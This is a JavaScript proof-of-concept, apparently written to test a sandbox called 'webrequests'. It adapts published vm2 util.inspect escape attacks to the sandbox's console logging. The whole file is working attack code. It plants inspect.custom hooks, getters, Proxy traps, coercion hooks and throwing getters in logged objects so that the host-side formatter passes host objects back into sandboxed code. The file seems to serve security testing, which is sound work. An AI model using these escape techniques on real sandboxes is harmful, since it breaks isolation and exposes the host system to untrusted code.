// Source: written for webrequests (no public PoC): the util.inspect attacks of vm2's
// docs/ATTACKS.md Categories 8 and 9 (GHSA-g644, GHSA-qcp4, GHSA-v37h) aimed at this sandbox's
// console, whose host side formats the arguments with util.formatWithOptions (customInspect off).
// Tried: log objects carrying inspect.custom hooks (the forged symbol and any real one the PoC can
// find), getters, Proxies with every trap (when there is a Proxy), toString/toPrimitive/toJSON hooks, host objects and
// format strings (%o, %O, %j, %s, %d, %c), and throwing from inside them.
const out = { hooks: 0 };
const hook = (label) => function (...args) { out.hooks++; for (const a of args) __wr.use(a, label + ' argument'); __wr.use(this, label + ' this'); return label; };
const symbols = [Symbol.for('nodejs.util.inspect.custom')];
try { for (const s of Object.getOwnPropertySymbols(Buffer.prototype)) symbols.push(s); } catch (e) {}
const target = { plain: 1 };
for (const s of symbols) target[s] = hook('inspect hook');
Object.defineProperty(target, 'getter', { enumerable: true, get: hook('getter') });
target.toString = hook('toString');
target[Symbol.toPrimitive] = hook('toPrimitive');
target.toJSON = hook('toJSON');
const makeProxy = (t, h) => { try { return new Proxy(t, h); } catch (e) { out.Proxy = String(e.message); return t; } };
const proxy = makeProxy(target, {
  get: (t, k, r) => { __wr.use(r, 'proxy get receiver'); return Reflect.get(t, k); },
  getOwnPropertyDescriptor: (t, k) => Reflect.getOwnPropertyDescriptor(t, k),
  ownKeys: (t) => { out.ownKeys = (out.ownKeys || 0) + 1; return Reflect.ownKeys(t); },
  getPrototypeOf: (t) => { out.getPrototypeOf = (out.getPrototypeOf || 0) + 1; return Reflect.getPrototypeOf(t); },
});
const thrower = makeProxy({ get hostile() { throw (x) => __wr.use(x, 'thrown by a getter'); } }, { ownKeys() { throw (x) => __wr.use(x, 'thrown by ownKeys'); }, getPrototypeOf() { throw new Error('no prototype for you'); } });
for (const format of ['%o', '%O', '%j', '%s', '%d', '%i', '%f', '%c']) {
  try { console.log(format, proxy); } catch (e) { out['log ' + format] = String(e && e.message).slice(0, 40); }
}
for (const value of [target, proxy, thrower, crypto, new URL('http://a.test/'), Buffer.from('x'), console, sleep, new Error('with a hook')]) {
  try { console.log(value); console.error(value, value); console.info([value, { nested: { value } }]); } catch (e) {}
}
try { const err = new Error('e'); err.name = { toString: hook('error name toString') }; console.warn(err); } catch (e) {}
try { const err = new Error('e'); Object.defineProperty(err, 'stack', { get: hook('stack getter') }); console.warn(err); } catch (e) {}
return out;
